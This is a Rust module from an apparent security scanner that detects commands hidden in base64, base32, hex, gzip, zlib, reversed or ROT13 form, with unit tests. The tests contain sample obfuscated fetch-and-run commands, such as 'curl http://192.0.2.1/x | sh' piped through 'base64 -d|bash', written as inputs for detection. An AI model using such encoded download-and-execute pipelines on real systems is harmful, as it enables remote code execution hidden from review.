//! Text hidden in text: base64, base32, hex, gzip, zlib, reversed strings, ROT13. Found by its look, not by the command
//! that would decode it, since that command may itself be hidden.

use std::io::Read;

use base64::{
    Engine, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use data_encoding::BASE32_NOPAD;

use super::magic::Magic;

/// Shorter runs are words.
const BASE64_MIN: usize = 20;
const BASE32_MIN: usize = 32;
const HEX_MIN: usize = 24;
/// What a compressed layer may grow to.
const INFLATED_MAX: usize = 256 * 1024;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Buffers that are kept from text to text.
#[derive(Default)]
pub(super) struct Decoder {
    compact: Vec<u8>,
    decoded: Vec<u8>,
    inflated: Vec<u8>,
}

impl Decoder {
    /// Calls `found(start, decoded)` for each run of `text` that decodes to something readable, and with a program's or an
    /// archive's first bytes for one that decodes to such.
    pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8])) {
        let mut start = 0;
        while start < text.len() {
            if !is_base64(text[start]) {
                start += 1;
                continue;
            }
            let mut end = start;
            while end < text.len() && (is_base64(text[end]) || wraps(text, start, end)) {
                end += 1;
            }
            let run = &text[start..end];
            if run.len() >= BASE64_MIN {
                self.compact.clear();
                self.compact.extend(run.iter().filter(|b| **b != b'\n'));
                for decode in [Self::hex, Self::base64, Self::base32] {
                    if decode(self)
                        && let Some(layer) = self.layer()
                    {
                        found(start, layer);
                        break;
                    }
                }
            }
            start = end.max(start + 1);
        }
    }

    fn base64(&mut self) -> bool {
        let run = without_padding(&self.compact);
        // What was torn off in the middle of four letters is still good up to there.
        let run = if run.len() % 4 == 1 { &run[..run.len() - 1] } else { run };
        self.decoded.clear();
        LENIENT.decode_vec(run, &mut self.decoded).is_ok()
    }

    fn base32(&mut self) -> bool {
        let run = without_padding(&self.compact);
        if run.len() < BASE32_MIN || !run.iter().all(|b| matches!(b, b'A'..=b'Z' | b'2'..=b'7')) {
            return false;
        }
        let Ok(length) = BASE32_NOPAD.decode_len(run.len()) else { return false };
        self.decoded.resize(length, 0);
        BASE32_NOPAD.decode_mut(run, &mut self.decoded).is_ok()
    }

    fn hex(&mut self) -> bool {
        let run = &self.compact;
        if run.len() < HEX_MIN || !run.len().is_multiple_of(2) || !run.iter().all(u8::is_ascii_hexdigit) {
            return false;
        }
        self.decoded.resize(run.len() / 2, 0);
        hex::decode_to_slice(run, &mut self.decoded).is_ok()
    }

    /// What was decoded, if it is text, or the compressed form of text, or something with a known beginning.
    fn layer(&mut self) -> Option<&[u8]> {
        let limit = INFLATED_MAX as u64;
        self.inflated.clear();
        // A torn stream still gives its beginning.
        let _ = match self.decoded[..] {
            [0x1f, 0x8b, ..] => {
                flate2::read::GzDecoder::new(&self.decoded[..]).take(limit).read_to_end(&mut self.inflated)
            }
            [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
                flate2::read::ZlibDecoder::new(&self.decoded[..]).take(limit).read_to_end(&mut self.inflated)
            }
            _ => Ok(0),
        };
        let inner = if self.inflated.is_empty() { &self.decoded } else { &self.inflated };
        if is_text(inner) {
            return Some(inner);
        }
        Magic::of_layer(inner).or_else(|| Magic::of_layer(&self.decoded)).map(Magic::bytes)
    }
}

fn without_padding(run: &[u8]) -> &[u8] {
    let end = run.iter().rposition(|b| *b != b'=').map_or(0, |last| last + 1);
    &run[..end]
}

/// A line break within a long run: encoders wrap their output.
fn wraps(text: &[u8], start: usize, at: usize) -> bool {
    text[at] == b'\n'
        && at - start >= 60
        && text.get(at + 1..at + 9).is_some_and(|next| next.iter().all(|b| is_base64(*b)))
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
}

/// Nearly all printable, and with a separator somewhere: a decoded identifier is no script.
fn is_text(bytes: &[u8]) -> bool {
    let printable = bytes.iter().filter(|b| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~')).count();
    bytes.len() >= 8
        && printable * 100 >= bytes.len() * 95
        && bytes.iter().any(|b| matches!(b, b' ' | b'\n' | b'/' | b';' | b'|'))
}

/// ROT13 of the letters.
pub(super) fn rot13(text: &[u8]) -> impl Iterator<Item = u8> {
    text.iter().map(|b| match b {
        b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
        other => *other,
    })
}

/// Calls `found(start, string)` for the quoted strings of `text`, which may be reversed commands.
pub(super) fn quoted_strings<'a>(text: &'a [u8], mut found: impl FnMut(usize, &'a [u8])) {
    for quote in [b'\'', b'"'] {
        let mut rest = 0;
        while let Some(open) = memchr::memchr(quote, &text[rest..]).map(|i| rest + i + 1) {
            let Some(close) = memchr::memchr(quote, &text[open..]).map(|i| open + i) else { break };
            let inner = &text[open..close];
            if inner.len() >= 12 && inner.len() <= 64 * 1024 {
                found(open, inner);
            }
            rest = close + 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    fn all(text: &[u8]) -> Vec<Vec<u8>> {
        let mut out = Vec::new();
        Decoder::default().layers(text, |_, layer| out.push(layer.to_vec()));
        out
    }

    #[test]
    fn encoded_commands_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base64 = BASE64_STANDARD.encode(command);
        assert_eq!(all(format!("echo {base64}|base64 -d|bash").as_bytes()), [command.to_vec()]);
        assert_eq!(all(format!("xxd -r -p <<< {}", hex::encode(command)).as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn other_encodings_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base32 = data_encoding::BASE32.encode(command);
        assert_eq!(all(format!("base32 -d <<< {base32}").as_bytes()), [command.to_vec()]);
        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut zlib, command).unwrap();
        let zlib = BASE64_STANDARD.encode(zlib.finish().unwrap());
        assert_eq!(all(format!("zlib.decompress(b64decode('{zlib}'))").as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn a_program_is_known_by_its_beginning_though_it_was_torn() {
        let program: Vec<u8> =
            b"\x7fELF\x02\x01\x01".iter().copied().chain((0..250).cycle().take(3000)).collect();
        let base64 = BASE64_STANDARD.encode(&program);
        assert_eq!(
            all(format!("base64 -d > x <<E\n{}\nE", &base64[..2001]).as_bytes()),
            [b"\x7fELF\x02\x01\x01program".to_vec()]
        );
        assert_eq!(all(hex::encode(&program[..200]).as_bytes()), [b"\x7fELF\x02\x01\x01".to_vec()]);
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut gzip, &program).unwrap();
        let gzip = BASE64_STANDARD.encode(gzip.finish().unwrap());
        assert_eq!(all(&gzip.as_bytes()[..gzip.len() - 7]), [b"\x7fELF\x02\x01\x01program".to_vec()]);
        let mut archive = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        std::io::Write::write_all(&mut archive, &[0; 1024]).unwrap();
        let archive = BASE64_STANDARD.encode(archive.finish().unwrap());
        assert_eq!(all(archive.as_bytes()), [b"\x1f\x8b".to_vec()]);
    }

    #[test]
    fn names_and_paths_are_not_taken_for_code() {
        assert!(all(b"/usr/share/bash-completion/completions/git").is_empty());
        assert!(all(b"sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
    }
}
